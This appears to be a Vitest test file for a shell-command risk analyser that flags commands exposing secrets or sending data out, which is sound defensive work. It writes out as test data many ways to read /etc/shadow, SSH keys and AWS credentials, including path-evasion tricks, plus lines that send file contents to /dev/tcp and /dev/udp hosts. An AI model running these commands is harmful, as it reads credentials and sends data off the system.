import { describe, expect, test } from 'vitest';
import { analyseCommand } from '../../../src/domain/command/analyse.ts';
import type { Analysis } from '../../../src/domain/command/analysis.ts';
import { normalisePath, pathOfUrl, readingsOf } from '../../../src/domain/command/paths.ts';
import { compileReach } from '../../../src/domain/command/patterns.ts';
import { vocabulary } from './load-vocabulary.ts';

function analyse(line: string): Analysis {
  const analysis = analyseCommand(line, vocabulary);
  if (analysis.kind === 'MalformedCommand') throw new Error(`${line}: ${analysis.message}`);
  return analysis;
}

/** Ways of a program to show a file or its standard input; FILE stands for that. */
const SHOWING = [
  ...[
    'cat',
    'tac',
    'rev',
    'nl',
    'od -c',
    'hexdump -C',
    'xxd',
    'strings',
    'fold',
    'pr',
    'cut -d: -f2',
    'paste',
  ],
  ...['sort', 'uniq', 'shuf', 'head', 'tail -n +1', 'less', 'iconv -f utf8', 'base64', 'column', 'expand'],
  ...[
    'awk 1',
    'sed -n p',
    'sed -n -e p',
    'perl -ne print',
    'grep .',
    'grep -e .',
    'busybox cat',
    'zcat -f',
    'gzip -c',
  ],
  ...[
    'diff /dev/null',
    'comm /dev/null',
    'join /dev/null',
    'cmp -l /dev/null',
    'jq -R .',
    'dd if=/dev/null;cat',
  ],
].flatMap((program) => [`${program} FILE`, `${program} < FILE`]);

const OTHER_WAYS = [
  'dd if=FILE',
  'echo $(<FILE)',
  'while read l; do echo "$l"; done <FILE',
  'mapfile -t a <FILE; echo "${a[@]}"',
  'exec 3<FILE; cat <&3',
  'find FILE -exec cat {} +',
  'xargs -a FILE echo',
  'openssl base64 -in FILE',
  'date -f FILE',
  'git diff --no-index /dev/null FILE',
  'curl file://FILE',
  'tar cO FILE',
  'python3 -c \'print(open("FILE").read())\'',
  'awk \'BEGIN{while((getline l < "FILE")>0) print l}\'',
  "sed 'r FILE' /dev/null",
];

const SILENT = [
  'stat',
  'ls -l',
  'wc -l',
  'test -r',
  'sha256sum',
  'file',
  'getfacl',
  'du -sh',
  'diff -q /etc/hosts',
];

describe('a file of secrets', () => {
  test.each([...SHOWING, ...OTHER_WAYS])('%s exposes it', (way) => {
    expect(analyse(way.replaceAll('FILE', '/etc/shadow')).exposes).toBe(true);
    expect(analyse(way.replaceAll('FILE', '/etc/hosts'))).toMatchObject({ risk: 'READ', exposes: false });
  });

  test.each(SILENT)('%s shows nothing of what it holds', (program) => {
    expect(analyse(`${program} /etc/shadow`)).toMatchObject({ risk: 'READ', exposes: false });
  });

  test.each([
    ...[
      '/etc//shadow',
      '/etc/./shadow',
      '/dev/../etc/shadow',
      '/etc/shado[w]',
      '/etc/*adow',
      '/etc/sh?dow',
      '/e*/s*',
    ],
    ...[
      '/etc/[!a]hadow',
      '/etc/@(shadow)',
      '/etc/{shadow,hosts}',
      '/proc/self/root/etc/shadow',
      '../../etc/shadow',
    ],
    ...[
      '/proc/1/root/proc/self/root/etc/shadow',
      '/proc/thread-self/root/etc/shadow',
      '~/../etc/shadow',
      '~/.ssh/id_*',
    ],
    ...[
      '/proc/self/root/../etc/shadow',
      '/root/.ssh/*',
      '/etc/ssh/ssh_host_*_key',
      '/root/.bash_hist*',
      '/srv/app/.e*',
    ],
  ])('is meant by %s', (path) => {
    expect(analyse(`cat ${path}`).exposes).toBe(true);
  });

  test.each([
    ...[
      '*',
      '*.conf',
      '/var/log/*.log',
      '/etc/nginx/*.conf',
      '/srv/app/*.json',
      '/etc/*-release',
      '/etc/cron.d/*',
    ],
    ...['/srv/**', '/root/.ssh/*.pub', '/srv/*/README', '"$FILE"', '/etc/"$NAME"'],
  ])('is not meant by %s', (path) => {
    expect(analyse(`cat ${path}`).exposes).toBe(false);
  });
});

describe('paths and patterns', () => {
  test.each([
    ['/proc/1/root', null, '/'],
    ['/proc/self/task/7/root/etc', null, '/etc'],
    ['/proc/self/root/../x', null, '/x'],
    ['/proc/self/cwd/x', '/srv', '/srv/x'],
    ['/proc/self/cwd/x', null, 'x'],
    ['/proc/12/cwd/x', '/srv', '/proc/12/cwd/x'],
    ['/srv/proc/1/root/x', null, '/srv/proc/1/root/x'],
    ['~/../x', null, '~/../x'],
  ])('%s from %s is %s', (path, directory, normal) => {
    expect(normalisePath(path, directory)).toBe(normal);
  });

  test.each([
    ['file:///etc/hosts', '/etc/hosts'],
    ['FILE://localhost/etc/%68osts', '/etc/hosts'],
    ['file:/etc/hosts', '/etc/hosts'],
    ['file:///etc/%zz', '/etc/%zz'],
    ['http://x/etc/hosts', null],
    ['/etc/hosts', null],
  ])('the URL %s names %s', (url, path) => {
    expect(pathOfUrl(url)).toBe(path);
  });

  test('a path from a directory nobody knows may start from the root', () => {
    expect(readingsOf('../../etc/x')).toEqual(['../../etc/x', '/etc/x']);
    expect(readingsOf('~/../etc/x')).toEqual(['~/../etc/x', '/etc/x']);
    expect(readingsOf('/etc/x')).toEqual(['/etc/x']);
  });

  test('a pattern that could mean half a class costs little time', () => {
    const reaches = compileReach({ is: `/${'a'.repeat(200)}b`, like: `*${'a*'.repeat(40)}b` });
    const start = performance.now();
    expect(reaches(`/${'*a'.repeat(200)}`)).toBe(false);
    expect(performance.now() - start).toBeLessThan(5_000);
  });
});

describe('an option that no table names', () => {
  test('and whose name says that it writes makes of a reader something unknown', () => {
    expect(analyse('uptime --output-file=/srv/x')).toMatchObject({
      risk: 'UNKNOWN',
      unknowns: ['no rule says what uptime does with --output-file'],
    });
    expect(analyse('uptime --output=json').risk).toBe('READ');
    expect(analyse('uptime --pretty').risk).toBe('READ');
  });
});

describe('a path that only the shell there will tell', () => {
  test.each([
    ['chown :10000 "$DIR"', 'which path chown changes: "$DIR" is only known when it runs'],
    ['ls /srv | xargs chown root', 'which path chown changes: what it is handed is only known when it runs'],
    ['sed -i s/a/b/ "$F"', 'which path sed changes: "$F" is only known when it runs'],
    ['echo x > "$F"', 'which path echo changes: "$F" is only known when it runs'],
    ['tar xf a.tar -C "$D"', 'which path tar changes: "$D" is only known when it runs'],
  ])('%s is among what is not known', (line, unknown) => {
    expect(analyse(line).unknowns).toEqual([unknown]);
  });

  test.each(['cat "$F"', 'D=/srv; chown root "$D"', 'find /srv -exec chown root {} +'])(
    '%s changes nothing that is not known',
    (line) => {
      expect(analyse(line).unknowns).toEqual([]);
    },
  );
});

test.each([
  'cat $HOME/.ssh/id_rsa',
  'cat "${HOME}/.aws/credentials"',
  'cd /etc; cat $PWD/shadow',
  'cat <>/etc/shadow',
])('%s shows a secret', (line) => {
  expect(analyse(line).exposes).toBe(true);
});

test('a variable that was assigned is no longer the home or the working directory', () => {
  expect(analyse('PWD=/srv; cd /etc; cat $PWD/shadow').exposes).toBe(false);
});

test.each([
  'cat /srv/x > /dev/tcp/10.0.0.9/80',
  'H=10.0.0.9; cat /srv/x > /dev/udp/$H/80',
  'cat /srv/x > /dev/tcp/$H/$P',
  'exec 3<>/dev/tcp/10.0.0.9/80; cat /srv/x >&3',
  'f() { cat /srv/x; } > /dev/tcp/10.0.0.9/80; f',
])('%s sends what it writes', (line) => {
  expect(analyse(line)).toMatchObject({ risk: 'MUTATE', sends: true });
});
